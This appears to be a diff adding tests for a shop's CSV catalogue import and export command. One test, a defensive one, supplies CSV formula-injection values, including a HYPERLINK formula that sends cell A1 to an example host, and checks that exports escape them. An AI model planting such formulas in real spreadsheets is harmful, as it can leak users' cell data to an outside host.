@@ -1,0 +1,167 @@
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { temporaryFolder } from '@aangan/contract/testing/temporary-folder';
+import { parse } from 'csv-parse/sync';
+import { openCsv } from '../../catalogue/csv/open-csv';
+import { addProducts, addStore } from '../../testing/shop';
+import { exitCode } from '../command';
+import { testShop } from '../testing';
+
+const fixtures = join(__dirname, '../../catalogue/fixtures');
+const folder = temporaryFolder();
+
+const file = (name: string, content: string) => {
+  const path = join(folder, name);
+  writeFileSync(path, content);
+  return path;
+};
+
+const shop = testShop(async (database) => {
+  const storeId = await addStore(database, 'plain.localhost');
+  await addProducts(database, storeId, [{ handle: 'pot', title: 'Pot' }]);
+});
+const command = (...args: string[]) => shop.run('catalogue', ...args);
+
+it('imports a file into a new store, notifies the storefront, and changes nothing the second time', async () => {
+  const path = join(fixtures, 'plain.csv');
+  const first = await command('import', path, '--store', 'bazaar.localhost');
+  expect(first.stdout).toBe('4 added, 0 changed, 0 unchanged, 6 rejected\n');
+  expect(first.code).toBe(exitCode.rejectedRows);
+  expect(first.stderr).toContain('line 6: Missing title');
+  expect(first.stderr).toContain('price = Selling Price\n');
+  expect(first.stderr).toContain('not used: Rating\n');
+  expect(first.stderr).toContain(
+    'bazaar.localhost is a new store. Existing stores:\n  plain.localhost\n',
+  );
+  expect(first.stderr).toContain('Categories: Kitchen, Garden & Pets; Masala\n');
+  expect(shop.events).toEqual([
+    {
+      store: 'bazaar.localhost',
+      storeInfo: true,
+      products: expect.arrayContaining(['copper-water-bottle-a-1']),
+      categories: ['Kitchen, Garden & Pets', 'Masala'],
+    },
+  ]);
+
+  const second = await command('import', path, '--store', 'bazaar.localhost');
+  expect(second.stdout).toBe('0 added, 0 changed, 4 unchanged, 6 rejected\n');
+  expect(shop.events).toHaveLength(1);
+});
+
+it('updates fields of a later file and no others', async () => {
+  const prices = 'sku,title,category,mrp\nA-1,Copper Water Bottle,Drinkware,1399\n';
+  const path = file('prices.csv', prices);
+  const { stdout, stderr } = await command('import', path, '--store', 'bazaar.localhost');
+  expect(stdout).toBe('0 added, 1 changed, 0 unchanged, 0 rejected\n');
+  expect(stderr).toContain('Categories: Kitchen, Garden & Pets; Masala; Drinkware\n');
+  const exported = await command('export', '--store', 'bazaar.localhost');
+  expect(exported.stdout).toContain(
+    'copper-water-bottle-a-1,Copper Water Bottle,Drinkware,Bottles,,1399.00,999.00,yes,,no,https://cdn.example.in/bottle.jpg,<p>Pure copper.</p>',
+  );
+});
+
+it('exports a file that an import leaves unchanged', async () => {
+  const shopify = join(fixtures, 'shopify.csv');
+  await command('import', shopify, '--store', 'khadi.localhost', '--name', 'Khadi House');
+  const path = join(folder, 'export.csv');
+  const exported = await command('export', path, '--store', 'khadi.localhost');
+  expect(exported.stderr).toBe('3 products exported\n');
+  const again = await command('import', path, '--store', 'khadi.localhost');
+  expect(again.stdout).toBe('0 added, 0 changed, 3 unchanged, 0 rejected\n');
+  const copy = await command('import', path, '--store', 'copy.localhost');
+  expect(copy.stdout).toBe('3 added, 0 changed, 0 unchanged, 0 rejected\n');
+  const copied = await command('export', '--store', 'copy.localhost');
+  expect(`\ufeff${copied.stdout}`).toBe(readFileSync(path, 'utf8'));
+});
+
+it('escapes formulas in exports and reads them back', async () => {
+  const link = '=HYPERLINK("https://example.in?"&A1,"Sale")';
+  const path = file(
+    'formulas.csv',
+    `title,category,price,description,attribute:note\n"${link.replaceAll('"', '""')}",@Pots,99,-2+3,'+91\n`,
+  );
+  const [store, copy] = ['formulas.localhost', 'formulas-copy.localhost'];
+  const imported = await command('import', path, '--store', store);
+  expect(imported.stderr).toContain('products are recognised by their titles');
+  const exported = join(folder, 'formulas-export.csv');
+  await command('export', exported, '--store', store);
+  const { rows } = await openCsv(exported);
+  for await (const { cells } of rows) expect(cells).toContain(link);
+  const raw = parse(readFileSync(exported), { bom: true }) as string[][];
+  expect(raw[1]?.slice(1, 3)).toEqual([`'${link}`, "'@Pots"]);
+  expect(raw.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+  const again = await command('import', exported, '--store', store);
+  expect(again.stdout).toBe('0 added, 0 changed, 1 unchanged, 0 rejected\n');
+  await command('import', exported, '--store', copy);
+  const copied = await command('export', '--store', copy);
+  expect(`\ufeff${copied.stdout}`).toBe(readFileSync(exported, 'utf8'));
+});
+
+it('exports a product without a category', async () => {
+  const { code, stdout } = await command('export', '--store', 'plain.localhost');
+  expect(code).toBe(exitCode.ok);
+  expect(stdout).toContain('\npot,Pot,,,,100.00,,yes,,no,,,no,,');
+});
+
+it('shows the statistics of the stores', async () => {
+  const all = await command('stats');
+  expect(all.stdout).toContain('Bazaar (bazaar.localhost)');
+  const one = await command('stats', '--store', 'khadi.localhost');
+  expect(one.stdout).toMatch(
+    /^Khadi House \(khadi\.localhost\)\n +2 {2}products\n +1 {2}reduced\n/,
+  );
+  expect(one.stdout).not.toContain('Bazaar');
+  expect(one.stdout).not.toContain('low on stock');
+});
+
+it('removes products by id together with their empty categories', async () => {
+  const removed = await command(
+    ...['remove', '--store', 'bazaar.localhost', '--yes', 'हल्दी-पाउडर-a-8', 'not-there'],
+  );
+  expect(removed).toEqual({
+    code: exitCode.failed,
+    stdout: '1 removed\n',
+    stderr: '1 product was not found.\n',
+  });
+  expect(shop.events[0]).toMatchObject({ storeInfo: true, products: expect.any(Array) });
+  const { stdout } = await command('stats', '--store', 'bazaar.localhost');
+  expect(stdout).not.toContain('Masala');
+});
+
+it('removes all products of one store only', async () => {
+  const { stdout } = await command('remove', '--store', 'khadi.localhost', '--all', '--yes');
+  expect(stdout).toBe('3 removed\n');
+  expect(shop.events[0]).toMatchObject({ store: 'khadi.localhost', catalogue: true });
+  const copy = await command('stats', '--store', 'copy.localhost');
+  expect(copy.stdout).toContain('2  products');
+});
+
+it('imports the rows before a parse error', async () => {
+  const path = file(
+    'torn.csv',
+    'title,category,price\nPot,Pots,99\nSpade,"Tools,99\nRake,Tools,9\n',
+  );
+  const { code, stdout, stderr } = await command('import', path, '--store', 'torn.localhost');
+  expect(code).toBe(exitCode.failed);
+  expect(stdout).toBe('1 added, 0 changed, 0 unchanged, 0 rejected\n');
+  expect(stderr).toMatch(/never closed.*Earlier rows were imported/);
+});
+
+it('creates no store from a file without a valid row or at an unserved host', async () => {
+  const path = file('useless.csv', 'title,category,price\nPot,Pots,on request\n');
+  const useless = await command('import', path, '--store', 'useless.localhost');
+  expect(useless.code).toBe(exitCode.failed);
+  const good = join(fixtures, 'plain.csv');
+  const far = await command('import', good, '--store', 'shop.example.in');
+  expect(far.stderr).toContain('shop.example.in is not served by this shop');
+  const { stdout } = await command('stats');
+  expect(stdout).not.toMatch(/useless|example/);
+});
+
+it('reports an unknown store', async () => {
+  const path = join(folder, 'none.csv');
+  const { code, stderr } = await command('export', path, '--store', 'nowhere.localhost');
+  expect(code).toBe(exitCode.failed);
+  expect(stderr).toBe('No store is served at "nowhere.localhost"\n');
+  expect(existsSync(path)).toBe(false);
+});
